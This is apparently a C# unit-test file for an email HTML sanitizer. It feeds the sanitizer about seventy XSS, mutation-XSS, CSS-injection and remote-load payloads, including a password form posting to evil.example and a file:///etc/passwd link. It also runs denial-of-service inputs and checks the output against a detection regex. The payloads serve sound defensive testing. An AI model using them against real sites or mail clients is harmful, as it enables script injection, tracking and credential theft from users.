using System.Text.RegularExpressions;
using MailFunctions.Inbox;

namespace MailFunctions.Tests.Inbox;

public sealed partial class HtmlCleanerTests
{
    private static readonly Dictionary<string, string> NoPictures = [];

    public static TheoryData<string> Attacks => new(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "<img src=x onerror=alert(1)>",
        "<img src='x' onerror\n=\nalert(1)>",
        "<img/src='x'/onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\" \u0001javascript:alert(1)\">",
        "<img src=`javascript:alert(1)`>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=data:text/html;base64,PHNjcmlwdD4=>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img srcset='http://evil.example/1 1x' src=''>",
        "<picture><source srcset='http://evil.example/1'><img src=y></picture>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='/api/accounts'>x</a>",
        "<a href='//evil.example/' onclick=alert(1)>x</a>",
        "<a href='http://ok.example' ping='http://evil.example' style='position:fixed;top:0'>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=http://evil.example/x.swf>",
        "<applet code=x></applet>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=http://evil.example/>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example)}</style>",
        "<div style=\"background:url(http://evil.example/x)\">x</div>",
        "<div style=\"background-image:u\\72l(http://evil.example/x)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#a)\">x</div>",
        "<div style=\"list-style:url(http://evil.example);content:url(http://evil.example);cursor:url(http://evil.example),auto\">x</div>",
        "<div style=\"position:fixed;inset:0;z-index:9999;opacity:0\">x</div>",
        "<div style=\"font-family:'}</style><script>alert(1)</script>'\">x</div>",
        "<div style=\"filter:url(http://evil.example#f);mask:url(http://evil.example)\">x</div>",
        "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
        "<input type=image src=http://evil.example onfocus=alert(1) autofocus>",
        "<video poster=http://evil.example><source onerror=alert(1)></video>",
        "<audio src=http://evil.example onplay=alert(1) autoplay>",
        "<table background=http://evil.example><td background=javascript:alert(1)>x</table>",
        "<body onload=alert(1) background=http://evil.example>x",
        "<marquee onstart=alert(1)>x</marquee>",
        "<details open ontoggle=alert(1)>x</details>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>alert(1)</script>",
        "<p id=location name=document class=portal-button>x</p>",
        "<a href='http://ok.example' target=_self rel=opener>x</a>",
        "<div data-blocked-src=http://evil.example contenteditable accesskey=x>x</div>",
        "\0<scr\0ipt>alert(1)</script>");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_runs_loads_asks_or_covers(string attack)
    {
        var html = HtmlCleaner.Clean(attack, NoPictures).Html;

        Active().Match(html).Value.ShouldBe("", html);
        Link().Matches(html).ShouldAllBe(link => link.Value.Contains("target=\"_blank\"") && link.Value.Contains("noopener"));
        HtmlCleaner.Clean(html, NoPictures).Html.ShouldNotContain("<script", Case.Insensitive);
    }

    [Fact]
    public void Text_links_tables_and_styles_stay()
    {
        var html = HtmlCleaner.Clean(
            "<html><head><title>t</title></head><body><form><table width=600><tr><td style='color:red; padding: 4px'>" +
            "<st1:place>Zoë &amp; Bob</st1:place></td></tr></table></form><a href='https://example.com/?a=1&amp;b=2'>x</a>",
            NoPictures).Html;

        html.ShouldContain("<table width=\"600\">");
        html.ShouldContain("padding: 4px");
        html.ShouldContain("color: rgba(255, 0, 0, 1)");
        html.ShouldContain("Zoë &amp; Bob");
        html.ShouldContain("href=\"https://example.com/?a=1&amp;b=2\"");
    }

    [Fact]
    public void Remote_pictures_are_moved_away_and_counted()
    {
        var clean = HtmlCleaner.Clean(
            "<img src='https://track.example/p?a=1&b=x' alt=logo><img src='//track.example/q'><img src=picture.png>",
            NoPictures);

        clean.BlockedRemoteImages.ShouldBe(1 + 1);
        clean.Html.ShouldContain("data-blocked-src=\"//track.example/q\"");
        clean.Html.ShouldNotContain(" src=");
    }

    [Fact]
    public void Pictures_of_the_message_are_shown()
    {
        const string Picture = "data:image/png;base64,AAAA";
        var clean = HtmlCleaner.Clean(
            "<img src='cid:logo%40example'><img src=cid:unknown><img src='data:image/gif;base64,R0lGOD=='>",
            new Dictionary<string, string> { ["logo@example"] = Picture });

        clean.Html.ShouldBe($"<img src=\"{Picture}\"><img><img src=\"data:image/gif;base64,R0lGOD==\">");
        clean.BlockedRemoteImages.ShouldBe(0);
    }

    [Theory]
    [InlineData("<div>", 100_000)]
    [InlineData("<table><tr><td>", 50_000)]
    [InlineData("<b><p>", 50_000)]
    [InlineData("<font a1><font a2><i><p>", 20_000)]
    [InlineData("<div><b></div>", 50_000)]
    [InlineData("<ul><li>", 50_000)]
    [InlineData("<svg><math>", 50_000)]
    [InlineData("</p>", 200_000)]
    [InlineData("<a href=x>", 100_000)]
    [InlineData("&", 1_000_000)]
    [InlineData("<", 1_000_000)]
    [InlineData("<p style='", 100_000)]
    [InlineData("<!--", 200_000)]
    public async Task Hostile_structure_costs_little(string piece, int times)
    {
        var html = string.Concat(Enumerable.Repeat(piece, times));

        var cleaning = Task.Run(() => HtmlCleaner.Clean(html, NoPictures), TestContext.Current.CancellationToken);

        (await cleaning.WaitAsync(TimeSpan.FromSeconds(20), TestContext.Current.CancellationToken)).Html.Length.ShouldBeLessThan(8_000_000);
    }

    [Fact]
    public void A_tag_with_a_flood_of_attributes_is_left_out()
    {
        var clean = HtmlCleaner.Clean($"<p {string.Join(' ', Enumerable.Range(0, 50_000).Select(n => $"a{n}=1"))}>text</p>", NoPictures);

        (clean.Html.Contains("text"), clean.Cut).ShouldBe((true, true));
    }

    [GeneratedRegex(
        @"<(script|style|iframe|object|embed|applet|form|input|button|textarea|select|svg|math|meta|base|link|video|audio|source|template|body|title|marquee)\b" +
        @"|<[a-z0-9]+(\s[a-z-]+=""[^""]*"")*\s(on\w+|srcset|ping|action|formaction|background|poster|id|name|class|target=""_self""|data-blocked-src=""(?!(https?:)?//)|contenteditable|accesskey)=" +
        @"|<[a-z0-9]+(\s[a-z-]+=""[^""]*"")*\ssrc=""(?!data:image/(png|jpe?g|gif|webp|bmp);base64,)|<[a-z0-9]+(\s[a-z-]+=""[^""]*"")*\shref=""(?!https?://|mailto:)" +
        @"|<[^>]*(url\(|expression|@import|position:|z-index|behavior|-moz-binding|evil\.example(?![^>]*>x</a>)|javascript:|vbscript:)|<!--",
        RegexOptions.IgnoreCase)]
    private static partial Regex Active();

    [GeneratedRegex("<a [^>]*href[^>]*>")]
    private static partial Regex Link();
}
